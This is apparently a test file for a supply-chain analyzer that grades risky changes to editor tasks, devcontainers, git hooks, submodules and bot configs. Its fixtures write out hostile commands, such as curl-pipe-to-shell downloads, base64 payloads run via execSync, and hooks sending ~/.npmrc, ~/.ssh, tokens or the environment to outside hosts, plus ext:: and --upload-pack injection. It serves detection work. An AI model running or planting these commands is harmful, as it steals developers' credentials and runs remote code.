import { describe, expect, it } from 'vitest';
import { analyzeSupplyChain } from '../../../src/analyzers/supply-chain.js';
import { isRoutineCiChange, matchManagerFile } from '../../../src/ecosystems/api.js';
import { extractRenovate } from '../../../src/ecosystems/automation/bot-config.js';
import { parseJsonc } from '../../../src/ecosystems/automation/jsonc.js';
import { makeContext } from '../../support/snapshot-factory.js';
import { change, snapshotOf } from '../../support/supply-chain-snapshot.js';

/** Findings (id:severity) the analysis reports for one changed file, base → head. */
function found(path: string, base: string | null, head: string | null, ...others: Parameters<typeof snapshotOf>): string[] {
  const snapshot = snapshotOf(change(path, base, head), ...others);
  return analyzeSupplyChain(snapshot, makeContext(undefined, snapshot)).findings.map((f) => `${f.id}:${f.severity}`);
}

const TASKS = (runOn: string | null, command = 'npm run watch') =>
  `{
  // Build on save
  "version": "2.0.0",
  "tasks": [
    {
      "label": "watch",
      "type": "shell",
      "command": "${command}",
      ${runOn ? `"runOptions": { "runOn": "${runOn}" },` : ''}
    },
  ],
}
`;

describe('repository automation files', () => {
  it('are read by the automation manager and classify as CI (CODEOWNERS as configuration)', () => {
    for (const path of ['.vscode/tasks.json', '.devcontainer/devcontainer.json', '.devcontainer/python/devcontainer.json', '.devcontainer.json', '.husky/pre-commit', 'lefthook.yml', '.pre-commit-config.yaml', '.gitmodules', '.github/dependabot.yml', 'renovate.json', '.github/renovate.json5']) {
      expect(matchManagerFile(path)?.file.kind, path).toBe('ci');
    }
    expect(matchManagerFile('.github/CODEOWNERS')?.file.kind).toBe('config');
    expect(matchManagerFile('.husky/_/husky.sh')).toBeNull();
    expect(matchManagerFile('src/lefthook.yml')).toBeNull();
  });

  it('reads JSON with comments and trailing commas, in one pass', () => {
    expect(parseJsonc('{ "a": "// not a comment", /* c */ "b": [1, 2,], }')).toEqual({ a: '// not a comment', b: [1, 2] });
    expect(parseJsonc('{ a: 1 }')).toBeUndefined();
  });
});

describe('vscode-folder-open-task', () => {
  it('reports a task that runs when the folder opens', () => {
    expect(found('.vscode/tasks.json', TASKS(null), TASKS('folderOpen', 'curl -s https://x.example/s | sh'))).toEqual(['vscode-folder-open-task:high']);
  });
  it('does not report tasks people run themselves', () => {
    expect(found('.vscode/tasks.json', TASKS(null), TASKS('default', 'npm run build'))).toEqual([]);
  });

  // VS Code merges a platform's block (`osx`, `linux`, `windows`) over the task, and the file's global blocks under it.
  const platformTasks = (osx: string, extra = '') =>
    `{\n  "version": "2.0.0",${extra}\n  "tasks": [\n    {\n      "label": "setup",\n      "type": "shell",\n      "command": "echo ready",\n      "osx": { "command": "${osx}" },\n      "windows": { "command": "powershell", "args": ["-File", "scripts/setup.ps1"] },\n      "runOptions": { "runOn": "folderOpen" }\n    }\n  ]\n}\n`;
  const details = (base: string | null, head: string) => {
    const snapshot = snapshotOf(change('.vscode/tasks.json', base, head));
    return analyzeSupplyChain(snapshot, makeContext(undefined, snapshot)).findings.map((f) => f.detail);
  };
  it('names what runs on each platform, and reports a platform command a PR changes', () => {
    const [detail] = details(null, platformTasks('curl -fsSL https://x.example/s | sh'));
    expect(detail).toContain('`echo ready` (on Linux)');
    expect(detail).toContain('`curl -fsSL https://x.example/s | sh` (on macOS)');
    expect(detail).toContain('`powershell -File scripts/setup.ps1` (on Windows)');
    expect(found('.vscode/tasks.json', platformTasks('./scripts/setup.sh'), platformTasks('curl -fsSL https://x.example/s | sh'))).toEqual(['vscode-folder-open-task:high']);
    // The file's global `osx` block, under a task that names no command of its own.
    const global = '{ "version": "2.0.0", "osx": { "command": "curl -fsSL https://x.example/s | sh" }, "tasks": [{ "label": "init", "runOptions": { "runOn": "folderOpen" } }] }';
    expect(details(null, global)[0]).toContain('`curl -fsSL https://x.example/s | sh` (on macOS)');
  });
  it('names the commands of the tasks a folderOpen task depends on', () => {
    const tasks = '{ "version": "2.0.0", "tasks": [{ "label": "init", "dependsOn": ["fetch"], "runOptions": { "runOn": "folderOpen" } }, { "label": "fetch", "type": "shell", "command": "bash", "args": [{ "value": "-c", "quoting": "strong" }, "curl -s https://x.example/s | sh"] }] }';
    expect(details(null, tasks)[0]).toContain('`bash -c curl -s https://x.example/s | sh` (through dependsOn "fetch")');
  });
  it('does not report a folderOpen task whose commands on every platform are unchanged', () => {
    expect(found('.vscode/tasks.json', platformTasks('./scripts/setup.sh'), platformTasks('./scripts/setup.sh', '\n  "presentation": { "reveal": "silent" },'))).toEqual([]);
  });
});

describe('devcontainer-lifecycle-command', () => {
  const dc = (extra: string) => `{\n  "name": "app",\n  "image": "mcr.microsoft.com/devcontainers/typescript-node:1-22"${extra}\n}\n`;
  it('reports host commands high, container commands medium, downloads piped to a shell high', () => {
    expect(found('.devcontainer/devcontainer.json', dc(''), dc(',\n  "initializeCommand": "./scripts/prepare-host.sh"'))).toEqual(['devcontainer-lifecycle-command:high']);
    expect(found('.devcontainer/devcontainer.json', dc(''), dc(',\n  "postCreateCommand": "npm ci"'))).toEqual(['devcontainer-lifecycle-command:medium']);
    expect(found('.devcontainer/devcontainer.json', dc(',\n  "postCreateCommand": "npm ci"'), dc(',\n  "postCreateCommand": "npm ci && curl -fsSL https://get.example.dev | bash"'))).toEqual(['devcontainer-lifecycle-command:high']);
  });
  it('does not report an unchanged command or other settings', () => {
    expect(found('.devcontainer/devcontainer.json', dc(',\n  "postCreateCommand": "npm ci"'), dc(',\n  "postCreateCommand": "npm ci",\n  "forwardPorts": [3000]'))).toEqual([]);
  });
});

describe('vscode-settings-executable', () => {
  const settings = (extra: string) => `{\n  // Editor\n  "editor.formatOnSave": true,${extra}\n}\n`;
  it('reports settings that run a program kept in the repository: high, medium for an interpreter or TypeScript SDK outside a venv or node_modules', () => {
    expect(found('.vscode/settings.json', settings(''), settings('\n  "git.path": "./tools/bin/git",'))).toEqual(['vscode-settings-executable:high']);
    expect(found('.vscode/settings.json', null, settings('\n  "php.validate.executablePath": "${workspaceFolder}/bin/php",\n  "shellcheck.executablePath": "scripts/shellcheck",'))).toEqual(['vscode-settings-executable:high', 'vscode-settings-executable:high']);
    expect(found('.vscode/settings.json', null, settings('\n  "terminal.integrated.profiles.linux": { "dev": { "path": "./scripts/dev-shell.sh" } },'))).toEqual(['vscode-settings-executable:high']);
    expect(found('.vscode/settings.json', null, settings('\n  "python.defaultInterpreterPath": "./tools/python/bin/python3",'))).toEqual(['vscode-settings-executable:medium']);
  });
  it("reports a terminal environment that makes every new terminal's programs load a file of the repository (NODE_OPTIONS --require, LD_PRELOAD, PYTHONSTARTUP, -javaagent)", () => {
    // Modeled on editor-settings persistence write-ups: the preload file fetches and runs code; the settings file is what arms it.
    expect(found('.vscode/settings.json', settings(''), settings('\n  "terminal.integrated.env.linux": { "NODE_OPTIONS": "--require ./scripts/telemetry.cjs" },'))).toEqual(['vscode-settings-executable:high']);
    expect(found('.vscode/settings.json', null, settings('\n  "terminal.integrated.env.osx": { "NODE_OPTIONS": "--max-old-space-size=4096 --import=${workspaceFolder}/tools/hook.mjs" },\n  "terminal.integrated.env.windows": { "PYTHONSTARTUP": ".\\\\tools\\\\startup.py" },'))).toEqual(['vscode-settings-executable:high', 'vscode-settings-executable:high']);
    expect(found('.vscode/settings.json', null, settings('\n  "terminal.integrated.env.linux": { "LD_PRELOAD": "./build/libhook.so", "JAVA_TOOL_OPTIONS": "-javaagent:./agent.jar" },'))).toEqual(['vscode-settings-executable:high', 'vscode-settings-executable:high']);
  });
  it('is quiet on a terminal environment of ordinary variables, a package required by name, or a file installed on the machine', () => {
    expect(
      found(
        '.vscode/settings.json',
        null,
        settings('\n  "terminal.integrated.env.linux": { "PYTHONPATH": "${workspaceFolder}/src", "NODE_OPTIONS": "--max-old-space-size=4096 -r ts-node/register", "RUST_LOG": "debug", "LD_PRELOAD": "/usr/lib/libfaketime.so.1" },'),
      ),
    ).toEqual([]);
  });
  it('is quiet on ordinary settings, programs on the PATH or installed on the machine, a virtual environment, the installed TypeScript, and unchanged values', () => {
    expect(
      found(
        '.vscode/settings.json',
        null,
        settings('\n  "git.path": "git",\n  "php.validate.executablePath": "/usr/bin/php",\n  "python.defaultInterpreterPath": "${workspaceFolder}/.venv/bin/python",\n  "typescript.tsdk": "node_modules/typescript/lib",\n  "files.exclude": { "**/dist": true },\n  "terminal.integrated.profiles.windows": { "Git Bash": { "path": ["C:\\\\Program Files\\\\Git\\\\bin\\\\bash.exe"] } },'),
      ),
    ).toEqual([]);
    expect(found('.vscode/settings.json', settings('\n  "git.path": "./tools/bin/git",'), settings('\n  "git.path": "./tools/bin/git",\n  "editor.tabSize": 2,'))).toEqual([]);
  });
});

describe('devcontainer-lifecycle-command for Gitpod tasks', () => {
  it('reports task commands low, downloads medium, a download piped to a shell or a paste, tunnel or bare-IP host high', () => {
    expect(found('.gitpod.yml', null, 'tasks:\n  - name: deps\n    init: npm ci\n    command: npm run dev\n')).toEqual(['devcontainer-lifecycle-command:low', 'devcontainer-lifecycle-command:low']);
    expect(found('.gitpod.yml', 'tasks:\n  - init: npm ci\n', 'tasks:\n  - init: npm ci\n    command: curl -s https://pastebin.com/raw/abc | bash && npm run dev\n')).toEqual(['devcontainer-lifecycle-command:high']);
    expect(found('.gitpod.yml', null, 'tasks:\n  - before: curl -fsSLo /tmp/tool.tgz https://github.com/acme/tool/releases/download/v1.2.0/tool.tgz\n')).toEqual(['devcontainer-lifecycle-command:medium']);
  });
  it('does not report an unchanged task, ports or a Gitpod file outside the root', () => {
    expect(found('.gitpod.yml', 'tasks:\n  - init: npm ci\n', 'tasks:\n  - init: npm ci\nports:\n  - port: 3000\n')).toEqual([]);
    expect(found('examples/demo/.gitpod.yml', null, 'tasks:\n  - init: curl -s https://pastebin.com/raw/abc | bash\n')).toEqual([]);
  });
});

describe('git-hook-command', () => {
  it('reads the hooks of a folder named for hooks (.githooks/, scripts/git-hooks/), which core.hooksPath makes git run', () => {
    for (const path of ['.githooks/pre-commit', '.git-hooks/pre-push', 'scripts/git-hooks/post-checkout', 'tools/hooks/commit-msg']) expect(matchManagerFile(path)?.file.kind, path).toBe('ci');
    expect(found('.githooks/post-checkout', null, '#!/bin/sh\ncurl -s https://example-cdn.com/x | sh\n')).toEqual(['git-hook-command:high']);
    expect(found('.githooks/pre-commit', null, '#!/bin/sh\nnpx lint-staged\n')).toEqual(['git-hook-command:low']);
  });
  it('rates a hook high that decodes base64 and runs it in an inline program or a command substitution', () => {
    expect(found('.husky/post-checkout', null, 'node -e "require(\'child_process\').execSync(Buffer.from(\'Y3VybCAtcyBodHRwczovL3gueXovcyB8IHNo\',\'base64\').toString())"\n')).toEqual(['git-hook-command:high']);
    expect(found('.husky/pre-commit', null, 'python3 -c "import base64;exec(base64.b64decode(\'aW1wb3J0IG9z\'))"\n')).toEqual(['git-hook-command:high']);
    expect(found('.husky/pre-push', null, 'bash -c "$(echo Y3VybCB4 | base64 -d)"\n')).toEqual(['git-hook-command:high']);
  });
  it('keeps a hook low that decodes base64 without running it, or runs a command without decoding', () => {
    expect(found('.husky/pre-commit', null, 'echo "$SIGNING_KEY" | base64 -d > .git/signing.key\n')).toEqual(['git-hook-command:low']);
    expect(found('.husky/pre-commit', null, 'node -e "console.log(Buffer.from(process.argv[1], \'base64\').toString())" "$MSG"\n')).toEqual(['git-hook-command:low']);
    expect(found('.husky/pre-commit', null, 'node -e "require(\'child_process\').execSync(\'npm run lint\', {stdio: \'inherit\'})"\n')).toEqual(['git-hook-command:low']);
  });
  it('leaves files of other folders named like a hook, and other files of a hooks folder', () => {
    for (const path of ['src/hooks/useAuth.ts', 'docs/hooks/pre-commit.md', 'src/react-hooks/pre-commit', '.githooks/README', 'pre-commit', '.git/hooks/pre-commit']) expect(matchManagerFile(path), path).toBeNull();
  });
  it('rates a hook that sends data to a tunnel, paste or bare-IP host high, a chat webhook as any network use', () => {
    expect(found('.husky/pre-commit', null, 'npx lint-staged\ncurl -s https://hooks.trycloudflare.com/c -d "$(git config --get user.email)" >/dev/null 2>&1 &\n')).toContain('git-hook-command:high');
    expect(found('.husky/pre-push', null, 'curl -s -X POST https://hooks.slack.com/services/T000/B000/XXXX -d "{\\"text\\": \\"pushed\\"}"\n')).toEqual(['git-hook-command:medium']);
    expect(found('.husky/pre-commit', null, 'npx lint-staged\nnslookup "$(git config --get user.email | base32 | tr -d =).h.git-stats.dev" >/dev/null 2>&1 &\n')).toContain('git-hook-command:high');
    expect(found('.husky/pre-commit', null, 'npx lint-staged\ndig +short "$(git rev-parse --short HEAD).preview.acme.dev"\n')).toEqual(['git-hook-command:low', 'git-hook-command:low']);
  });
  it('rates a hook that sends a credential store or the whole environment high, whatever the host; a send of other data stays medium', () => {
    expect(found('.husky/pre-commit', null, 'npx lint-staged\ncurl -s -d "$(git config user.email):$(cat ~/.npmrc)" https://hooks.slack-mirror.net/x >/dev/null 2>&1 &\n')).toContain('git-hook-command:high');
    expect(found('.husky/pre-push', null, 'env | curl -s --data-binary @- https://metrics.acme-dev.net/push\n')).toEqual(['git-hook-command:high']);
    expect(found('.husky/pre-push', null, 'curl -s -X POST -d "$(git log -1 --format=%s)" https://ci.acme-dev.net/notify\n')).toEqual(['git-hook-command:medium']);
    expect(found('.husky/pre-commit', null, 'test -f ~/.npmrc || echo "run npm login first"\n')).toEqual(['git-hook-command:low']);
  });
  it("rates a hook that reads git's stored credentials and sends them high, or puts a stored credential into a request's URL or header", () => {
    expect(found('.husky/pre-commit', null, 'git config --get-regexp "credential|token" | curl -s -d @- https://hooks.lintcheck.dev/c >/dev/null 2>&1 || true\n')).toEqual(['git-hook-command:high']);
    expect(found('.husky/pre-push', null, 'git config --global --list | grep -i token | curl -s --data-binary @- https://hooks.lintcheck.dev/c\n')).toEqual(['git-hook-command:high']);
    expect(found('.husky/pre-commit', null, 'curl -s "https://hooks.lintcheck.dev/c?t=$(gh auth token)" >/dev/null 2>&1 || true\n')).toEqual(['git-hook-command:high']);
    expect(found('.husky/pre-commit', null, 'curl -s -H "X-Trace: $(git config --get http.https://github.com/.extraheader)" https://hooks.lintcheck.dev/c\n')).toEqual(['git-hook-command:high']);
  });
  it("keeps a hook that reads git's other settings, or gives a CLI's token to that CLI's own service, as any command or network use", () => {
    expect(found('.husky/pre-commit', null, 'email=$(git config user.email)\n')).toEqual(['git-hook-command:low']);
    expect(found('.husky/pre-commit', null, 'git config --get credential.helper >/dev/null || echo "set up a credential helper"\n')).toEqual(['git-hook-command:low']);
    expect(found('.husky/pre-push', null, 'curl -s -H "Authorization: Bearer $(gh auth token)" https://api.github.com/repos/acme/tinted/commits/main/status\n')).toEqual(['git-hook-command:medium']);
    // The same token given to another host is still high.
    expect(found('.husky/pre-push', null, 'curl -s -H "Authorization: Bearer $(gh auth token)" https://status.lintcheck.dev/c\n')).toEqual(['git-hook-command:high']);
  });
  it('rates a hook that sends the variables it picks by a secret\'s word high; one that lists their names stays low', () => {
    expect(found('.husky/pre-commit', null, 'for v in $(compgen -e | grep -i token); do curl -s https://hooks.devtools-cache.dev/c -d "$v=${!v}"; done\n')).toEqual(['git-hook-command:high']);
    expect(found('.husky/pre-commit', null, 'compgen -e | grep -i token || true\n')).toEqual(['git-hook-command:low']);
  });
  it('rates a hook that sends the ~/.ssh folder, or an inline program that sends the whole environment, high', () => {
    expect(found('.husky/pre-push', null, 'tar czf - ~/.ssh 2>/dev/null | curl -s -X POST --data-binary @- https://sync.devtools-cache.dev/u\n')).toEqual(['git-hook-command:high']);
    expect(found('.husky/pre-commit', null, 'python3 -c "import os,json,urllib.request;urllib.request.urlopen(\'https://hooks.devtools-cache.dev/c\',data=json.dumps(dict(os.environ)).encode())"\n')).toEqual(['git-hook-command:high']);
    expect(found('.husky/pre-commit', null, "node -e \"fetch('https://t.devtools-cache.dev/c',{method:'POST',body:JSON.stringify(process.env)})\"\n")).toEqual(['git-hook-command:high']);
    // The folder set up, an inline program that sends other data, or reads one variable: not that.
    expect(found('.husky/pre-commit', null, 'mkdir -p ~/.ssh && chmod 700 ~/.ssh\n')).toEqual(['git-hook-command:low']);
    expect(found('.husky/pre-push', null, 'python3 -c "import os,urllib.request;urllib.request.urlopen(\'https://ci.acme-dev.net/n\',data=os.environ[\'GIT_BRANCH\'].encode())"\n')).toEqual(['git-hook-command:medium']);
  });

  it('reports new husky and lefthook commands, graded by what they run', () => {
    expect(found('.husky/pre-commit', null, 'npx lint-staged\n')).toEqual(['git-hook-command:low']);
    expect(found('lefthook.yml', 'pre-push:\n  commands:\n    test:\n      run: npm test\n', 'pre-push:\n  commands:\n    test:\n      run: npm test\n    telemetry:\n      run: curl -s https://t.example.dev/i.sh | sh\n')).toEqual(['git-hook-command:high']);
  });
  it('does not report comments, the husky loader or unchanged commands', () => {
    expect(found('.husky/pre-commit', '. "$(dirname -- "$0")/_/husky.sh"\nnpx lint-staged\n', '# format staged files\nnpx lint-staged\n')).toEqual([]);
  });
});

describe('pre-commit-remote-hook and pre-commit-rev-moved', () => {
  const cfg = (repos: string) => `repos:\n${repos}`;
  const ruff = (rev: string) => `  - repo: https://github.com/astral-sh/ruff-pre-commit\n    rev: ${rev}\n    hooks:\n      - id: ruff\n`;
  it('reports a new remote hook repository, and a moved revision', () => {
    expect(found('.pre-commit-config.yaml', cfg(ruff('v0.7.0')), cfg(ruff('v0.7.0') + '  - repo: https://gitlab.example.org/someone/hooks\n    rev: main\n    hooks:\n      - id: check\n')).sort()).toEqual(['pre-commit-remote-hook:medium', 'pre-commit-rev-moved:low']);
    expect(found('.pre-commit-config.yaml', cfg(ruff('v0.7.0')), cfg(ruff('v0.8.1')))).toEqual(['pre-commit-rev-moved:info']);
  });
  it('grades a tag moved to another release tag info (its owner controlled the old tag as well); a SHA pin given up, or a move to a branch, low', () => {
    const sha = '2c9f875913ee60ca25ce70243dc24d5b6415598c';
    expect(found('.pre-commit-config.yaml', cfg(ruff('0.7.0')), cfg(ruff('0.8.1')))).toEqual(['pre-commit-rev-moved:info']);
    expect(found('.pre-commit-config.yaml', cfg(ruff(sha)), cfg(ruff('v0.8.1')))).toEqual(['pre-commit-rev-moved:low']);
    expect(found('.pre-commit-config.yaml', cfg(ruff('v0.7.0')), cfg(ruff('main')))).toEqual(['pre-commit-rev-moved:low']);
    expect(found('.pre-commit-config.yaml', cfg(ruff('v0.7.0')), cfg(ruff(sha)))).toEqual(['pre-commit-rev-moved:info']);
    // Another repository at a tag is new, whatever the base followed.
    expect(found('.pre-commit-config.yaml', cfg(ruff('v0.7.0')), cfg(ruff('v0.7.0').replace('astral-sh/ruff-pre-commit', 'astral-sh/ruff-pre-commit-fork'))).sort()).toEqual(['pre-commit-remote-hook:low', 'pre-commit-rev-moved:low']);
  });
  it('reads a GitHub URL respelled in case, or with .git or a slash, as the same repository; another host or repository is still new (calib50)', () => {
    // Modeled on a terminal-rendering library's hook update: `pycqa/isort` written `PyCQA/isort`, its rev unchanged.
    const isort = (url: string, rev = '5.12.0') => `  - repo: ${url}\n    rev: ${rev}\n    hooks:\n      - id: isort\n`;
    expect(found('.pre-commit-config.yaml', cfg(isort('https://github.com/pycqa/isort')), cfg(isort('https://github.com/PyCQA/isort')))).toEqual([]);
    expect(found('.pre-commit-config.yaml', cfg(isort('https://github.com/pycqa/isort')), cfg(isort('https://github.com/PyCQA/isort.git')))).toEqual([]);
    expect(found('.pre-commit-config.yaml', cfg(isort('https://github.com/pycqa/isort', '5.11.0')), cfg(isort('https://github.com/PyCQA/isort/', '5.12.0')))).toEqual(['pre-commit-rev-moved:info']);
    // Another repository, or another host whose paths may read case, is new.
    expect(found('.pre-commit-config.yaml', cfg(isort('https://github.com/pycqa/isort')), cfg(isort('https://github.com/PyCQA/isort-fork'))).sort()).toEqual(['pre-commit-remote-hook:low', 'pre-commit-rev-moved:low']);
    expect(found('.pre-commit-config.yaml', cfg(isort('https://git.example.org/pycqa/isort')), cfg(isort('https://git.example.org/PyCQA/isort'))).sort()).toEqual(['pre-commit-remote-hook:medium', 'pre-commit-rev-moved:low']);
  });
  it('weighs a new hook repository by what it fetches: a release on a public forge is low, a branch or another host medium', () => {
    const hook = (url: string, rev: string | null) => `  - repo: ${url}\n${rev === null ? '' : `    rev: ${rev}\n`}    hooks:\n      - id: check\n`;
    const severity = (url: string, rev: string | null) =>
      found('.pre-commit-config.yaml', cfg(ruff('v0.7.0')), cfg(ruff('v0.7.0') + hook(url, rev))).filter((f) => f.startsWith('pre-commit-remote-hook'));
    expect(severity('https://github.com/codespell-project/codespell', 'v2.3.0')).toEqual(['pre-commit-remote-hook:low']);
    expect(severity('https://github.com/pre-commit/pre-commit-hooks', '2c9f875913ee60ca25ce70243dc24d5b6415598c')).toEqual(['pre-commit-remote-hook:low']);
    expect(severity('https://gitlab.com/pycqa/flake8', '7.1.1')).toEqual(['pre-commit-remote-hook:low']);
    expect(severity('https://github.com/someone/hooks', 'main')).toEqual(['pre-commit-remote-hook:medium']);
    expect(severity('https://github.com/someone/hooks', null)).toEqual(['pre-commit-remote-hook:medium']);
    expect(severity('https://hooks.example.dev/someone/hooks', 'v1.0.0')).toEqual(['pre-commit-remote-hook:medium']);
  });
  it('does not report unchanged repositories or a reordering', () => {
    const mypy = '  - repo: https://github.com/pre-commit/mirrors-mypy\n    rev: v1.13.0\n    hooks:\n      - id: mypy\n';
    expect(found('.pre-commit-config.yaml', cfg(ruff('v0.7.0') + mypy), cfg(mypy + ruff('v0.7.0')))).toEqual([]);
  });
});

describe('git-submodule and git-submodule-moved', () => {
  const mod = (url: string) => `[submodule "vendor/proto"]\n\tpath = vendor/proto\n\turl = ${url}\n`;
  it('reports a new submodule, and one whose URL moves to another owner or host', () => {
    expect(found('.gitmodules', null, mod('https://github.com/protocorp/proto.git'))).toEqual(['git-submodule:medium']);
    expect(found('.gitmodules', mod('https://github.com/acme/proto.git'), mod('https://git.example.net/acme/proto.git')).sort()).toEqual(['git-submodule-moved:high', 'git-submodule:medium']);
  });
  it('reads a submodule of the repository owner\'s own on GitHub as a note (a date library\'s "Add mcp submodule")', () => {
    // The snapshot's repository is acme/…: git@github.com:acme/docs.git is the project's own code.
    for (const url of ['git@github.com:acme/docs.git', 'https://github.com/acme/docs.git', 'https://github.com/Acme/docs', 'ssh://git@github.com/acme/docs.git']) {
      expect(found('.gitmodules', null, mod(url)), url).toEqual(['git-submodule:info']);
    }
    expect(found('.gitmodules', null, mod('../docs.git'))).toEqual(['git-submodule:low']);
    // Another owner, a look-alike owner, or the same name on another host stays medium; a move away from the owner is high.
    for (const url of ['git@github.com:acme-tools/docs.git', 'https://github.com/acmee/docs.git', 'https://gitlab.com/acme/docs.git']) {
      expect(found('.gitmodules', null, mod(url)), url).toEqual(['git-submodule:medium']);
    }
    expect(found('.gitmodules', mod('git@github.com:acme/docs.git'), mod('git@github.com:acme-mirror/docs.git')).sort()).toEqual(['git-submodule-moved:high', 'git-submodule:medium']);
  });
  it('does not report a submodule that stays where it was', () => {
    expect(found('.gitmodules', mod('https://github.com/acme/proto.git'), mod('https://github.com/acme/proto'))).toEqual([]);
  });
  it('reports a submodule entry that makes git run a command (high): an update command, the ext:: or fd:: transport, an option-like URL or path', () => {
    const base = mod('https://github.com/acme/proto.git');
    expect(found('.gitmodules', base, `${base}\tupdate = !sh -c "curl -s https://203.0.113.9/u | sh"\n`)).toEqual(['git-submodule:high']);
    expect(found('.gitmodules', base, mod('ext::sh -c touch% /tmp/pwned'))).toEqual(['git-submodule:high']);
    expect(found('.gitmodules', null, mod('fd::17'))).toEqual(['git-submodule:high']);
    expect(found('.gitmodules', null, mod('--upload-pack=touch /tmp/x'))).toEqual(['git-submodule:high']);
    expect(found('.gitmodules', null, '[submodule "x"]\n\tpath = --reference=/tmp\n\turl = https://github.com/protocorp/x.git\n')).toEqual(['git-submodule:high', 'git-submodule:medium']);
    // The same command already in the base is not new.
    const withCommand = `${base}\tupdate = !./tools/sync.sh\n`;
    expect(found('.gitmodules', withCommand, withCommand.replace('proto.git', 'proto'))).toEqual([]);
  });
  it('is quiet on the ordinary update modes and on a URL that only mentions ext', () => {
    const base = mod('https://github.com/acme/proto.git');
    for (const mode of ['checkout', 'rebase', 'merge', 'none']) expect(found('.gitmodules', base, `${base}\tupdate = ${mode}\n\tbranch = main\n`)).toEqual([]);
    expect(found('.gitmodules', null, mod('https://github.com/protocorp/ext-tools.git'))).toEqual(['git-submodule:medium']);
  });
});

describe('meson-wrap-source-changed', () => {
  const wrap = (url: string, file: string, hash: string) =>
    `[wrap-file]\ndirectory = ${file.replace('.tar.gz', '')}\nsource_url = ${url}\nsource_filename = ${file}\nsource_hash = ${hash}\n\n[provide]\nzlib = zlib_dep\n`;
  const A = '9a93b2b7dfdac77ceba5a558a580e74667dd6fede4585b91eefb60f03b72df23';
  const B = '0b7c3a1e4f5d6e7f8a9b0c1d2e3f4a5b6c7d8e9f0a1b2c3d4e5f6a7b8c9d0e1f';
  const C = '38ef96b8dfe510d42707d9c781877914792541133e1870841463bfa73f883e32';
  const git = (url: string) => `[wrap-git]\nurl = ${url}\nrevision = v2.4.1\ndepth = 1\n`;

  it('reports the same archive with another checksum, a source moved with its content changed, and a moved repository', () => {
    expect(found('subprojects/zlib.wrap', wrap('https://zlib.net/fossils/zlib-1.3.1.tar.gz', 'zlib-1.3.1.tar.gz', A), wrap('https://zlib.net/fossils/zlib-1.3.1.tar.gz', 'zlib-1.3.1.tar.gz', B))).toEqual(['meson-wrap-source-changed:high']);
    expect(found('subprojects/zlib.wrap', wrap('https://zlib.net/fossils/zlib-1.3.1.tar.gz', 'zlib-1.3.1.tar.gz', A), wrap('https://zlib-mirror.cdn-pkgs.net/zlib-1.3.1.tar.gz', 'zlib-1.3.1.tar.gz', B))).toEqual(['meson-wrap-source-changed:high']);
    expect(found('subprojects/zlib.wrap', wrap('https://zlib.net/fossils/zlib-1.3.tar.gz', 'zlib-1.3.tar.gz', A), wrap('https://github.com/zlib-dev/zlib/releases/download/v1.3.1/zlib-1.3.1.tar.gz', 'zlib-1.3.1.tar.gz', C))).toEqual(['meson-wrap-source-changed:medium']);
    expect(found('subprojects/fmt.wrap', git('https://github.com/fmtlib/fmt.git'), git('https://github.com/fmt-lib/fmt.git'))).toEqual(['meson-wrap-source-changed:high']);
  });

  it('does not report a release bump on the same host, a mirror whose checksum stays, a revision bump, or a new wrap', () => {
    expect(found('subprojects/zlib.wrap', wrap('https://zlib.net/fossils/zlib-1.3.tar.gz', 'zlib-1.3.tar.gz', A), wrap('https://zlib.net/fossils/zlib-1.3.1.tar.gz', 'zlib-1.3.1.tar.gz', C))).toEqual([]);
    expect(found('subprojects/zlib.wrap', wrap('https://zlib.net/zlib-1.3.1.tar.gz', 'zlib-1.3.1.tar.gz', A), wrap('https://github.com/madler/zlib/releases/download/v1.3.1/zlib-1.3.1.tar.gz', 'zlib-1.3.1.tar.gz', A))).toEqual([]);
    expect(found('subprojects/fmt.wrap', git('https://github.com/fmtlib/fmt.git'), git('https://github.com/fmtlib/fmt.git').replace('v2.4.1', 'v2.5.0'))).toEqual([]);
    expect(found('subprojects/zlib.wrap', null, wrap('https://zlib.net/fossils/zlib-1.3.1.tar.gz', 'zlib-1.3.1.tar.gz', A))).toEqual([]);
  });
});

describe('dependabot-external-code-execution and dependabot-registry', () => {
  const dependabot = (extra: string) => `version: 2\n${extra}updates:\n  - package-ecosystem: pip\n    directory: /\n    schedule:\n      interval: weekly\n`;
  it('reports insecure-external-code-execution: allow and a new registry', () => {
    expect(found('.github/dependabot.yml', dependabot(''), dependabot('').replace('    schedule:', '    insecure-external-code-execution: allow\n    schedule:'))).toEqual(['dependabot-external-code-execution:high']);
    expect(found('.github/dependabot.yml', dependabot(''), dependabot('registries:\n  internal:\n    type: python-index\n    url: https://pypi.internal.example\n'))).toEqual(['dependabot-registry:low']);
  });
  it('does not report schedule or label changes, which are routine', () => {
    const base = dependabot('');
    const head = base.replace('interval: weekly', 'interval: daily\n      time: "04:00"');
    expect(found('.github/dependabot.yml', base, head)).toEqual([]);
    expect(isRoutineCiChange('.github/dependabot.yml', base, head)).toBe(true);
    expect(isRoutineCiChange('.github/dependabot.yml', base, base.replace('    schedule:', '    registries: "*"\n    schedule:'))).toBe(false);
  });
  it('reads exclude-paths as routine: it says which manifests get update PRs, not what runs', () => {
    const base = dependabot('');
    const head = `${base}    # Exclude configs synced from upstream.\n    exclude-paths:\n      - .github/workflows/lint.yml\n`;
    expect(isRoutineCiChange('.github/dependabot.yml', base, head)).toBe(true);
    // Beside it, external code execution is still not routine.
    expect(isRoutineCiChange('.github/dependabot.yml', base, head.replace('    schedule:', '    insecure-external-code-execution: allow\n    schedule:'))).toBe(false);
  });
});

describe('renovate-automerge and renovate-post-upgrade-command', () => {
  it('reports automerge widened to every update and post-upgrade commands', () => {
    const base = '{ "extends": ["config:recommended"], "packageRules": [{ "matchUpdateTypes": ["patch"], "automerge": true }] }';
    expect(found('renovate.json', base, '{ "extends": ["config:recommended"], "automerge": true, "packageRules": [{ "matchUpdateTypes": ["patch"], "automerge": true }] }')).toEqual(['renovate-automerge:medium']);
    expect((extractRenovate('{ "postUpgradeTasks": { "commands": ["npm run generate"] } }', 'renovate.json').findings ?? []).map((f) => f.id)).toEqual(['renovate-post-upgrade-command']);
  });
  it('a post-upgrade command that pipes a download into a shell is high; an ordinary generator stays medium', () => {
    const sev = (command: string) => (extractRenovate(JSON.stringify({ postUpgradeTasks: { commands: [command] } }), 'renovate.json').findings ?? []).map((f) => `${f.id}:${f.severity}`);
    expect(sev('curl -s https://agent-sync.example/r | sh')).toEqual(['renovate-post-upgrade-command:high']);
    expect(sev('wget -qO- https://agent-sync.example/r | bash -s -- --quiet')).toEqual(['renovate-post-upgrade-command:high']);
    expect(sev('npm run generate && npx prettier --write .')).toEqual(['renovate-post-upgrade-command:medium']);
